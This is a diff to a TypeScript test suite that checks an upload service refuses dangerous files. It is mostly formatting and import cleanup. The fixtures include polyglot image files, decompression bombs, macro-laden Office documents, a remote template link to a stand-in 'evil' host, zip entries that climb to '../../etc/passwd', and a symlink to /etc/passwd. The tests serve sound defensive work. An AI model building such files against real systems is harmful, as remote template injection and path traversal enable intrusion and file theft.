@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib'
+import { crc32, deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { beforeAll, expect, test } from 'vitest'
 import { testApp, type TestApp } from '#test/app'
@@ -60,7 +60,7 @@ test('two kinds in one file are refused', async () => {
     'PNG + ZIP': Buffer.concat([png, jar]),
     'WebP + ZIP': Buffer.concat([webp, jar]),
     'HEIC + ZIP': Buffer.concat([heic(), jar]),
-    'GIFAR': Buffer.concat([latin('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), jar]),
+    GIFAR: Buffer.concat([latin('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), jar]),
     'JPEG + executable': Buffer.concat([jpeg, latin('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(100)]),
     'JPEG + PDF': Buffer.concat([jpeg, pdf()]),
     'PDF mark in a comment of a JPEG': comment('%PDF-1.7 trailer'),
@@ -92,7 +92,6 @@ test('bombs, cut and empty pictures', async () => {
   header.writeUInt32BE(30_000, 0)
   header.writeUInt32BE(30_000, 4)
   header.set([1, 0, 0, 0, 0], 8)
-  const { crc32 } = await import('node:zlib')
   const chunk = (name: string, body: Buffer) => {
     const head = Buffer.alloc(4)
     head.writeUInt32BE(body.length)
@@ -103,7 +102,7 @@ test('bombs, cut and empty pictures', async () => {
   const bomb = Buffer.concat([latin('\x89PNG\r\n\x1a\n'), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(3751 * 1000))), chunk('IEND', Buffer.alloc(0))])
   expect(await refusal(bomb, 'bomb.png')).toBe('413 media.too_large')
   const wide = Buffer.from(heic())
-  for (let at = wide.indexOf('ispe'); at >= 0; at = wide.indexOf('ispe', at + 4)) wide.writeUInt32BE(65_535, at + 8), wide.writeUInt32BE(65_535, at + 12)
+  for (let at = wide.indexOf('ispe'); at >= 0; at = wide.indexOf('ispe', at + 4)) for (const side of [8, 12]) wide.writeUInt32BE(65_535, at + side)
   expect(await refusal(wide, 'bomb.heic')).toBe('413 media.too_large')
   expect(await refusal(jpeg.subarray(0, jpeg.length - 40), 'cut.jpg')).toBe('422 media.unreadable')
   expect(await refusal(heic().subarray(0, 500), 'cut.heic')).toBe('422 media.unreadable')
@@ -139,7 +138,9 @@ test('office documents with macros, bombs, links and other archives', async () =
     'macro type': office('xlsx', [], 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
     control: office('docx', [{ name: 'word/activeX/activeX1.bin', content: 'x' }]),
     package: office('docx', [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
-    'template from elsewhere': office('docx', [{ name: 'word/_rels/settings.xml.rels', content: '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>' }]),
+    'template from elsewhere': office('docx', [
+      { name: 'word/_rels/settings.xml.rels', content: '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>' },
+    ]),
     program: office('docx', [{ name: 'word/media/image1.png', content: latin('MZ\x90\x00') }]),
     'OpenDocument macros': openDocument('text', [{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }]),
   }
@@ -147,13 +148,22 @@ test('office documents with macros, bombs, links and other archives', async () =
   const unsafe: Record<string, Buffer> = {
     'unpacks to 100 times its size': office('docx', [{ name: 'word/media/image1.bmp', content: zeros }]),
     'claims to be small': office('docx', [{ name: 'word/media/image1.bmp', content: zeros, claim: 100 }]),
-    'too many parts': office('docx', Array.from({ length: 2001 }, (_, i) => ({ name: `word/${i}.xml`, content: '' }))),
+    'too many parts': office(
+      'docx',
+      Array.from({ length: 2001 }, (_, i) => ({ name: `word/${i}.xml`, content: '' })),
+    ),
     'archive inside': office('docx', [{ name: 'word/media/image1.zip', content: zip([{ name: 'a', content: 'b' }]) }]),
     'archive inside an archive': office('pptx', [{ name: 'ppt/embeddings/a.xlsx', content: office('xlsx', [{ name: 'xl/embeddings/b.docx', content: office('docx') }]) }]),
     'climbs out': office('docx', [{ name: '../../etc/passwd', content: 'x' }]),
     link: office('docx', [{ name: 'word/link', content: '/etc/passwd', mode: 0o120777 }]),
-    'shared bytes': office('docx', [{ name: 'word/a.bin', content: 'aaaa' }, { name: 'word/b.bin', content: 'aaaa', sameAs: 'word/a.bin' }]),
-    'the same name twice': office('docx', [{ name: 'word/a.xml', content: '<a/>' }, { name: 'word/a.xml', content: '<b/>' }]),
+    'shared bytes': office('docx', [
+      { name: 'word/a.bin', content: 'aaaa' },
+      { name: 'word/b.bin', content: 'aaaa', sameAs: 'word/a.bin' },
+    ]),
+    'the same name twice': office('docx', [
+      { name: 'word/a.xml', content: '<a/>' },
+      { name: 'word/a.xml', content: '<b/>' },
+    ]),
     entities: office('docx', [{ name: 'word/styles.xml', content: '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' }]),
   }
   for (const [what, bytes] of Object.entries(unsafe)) expect([what, await refusal(bytes, 'a.docx')]).toEqual([what, '422 media.unsafe_archive'])
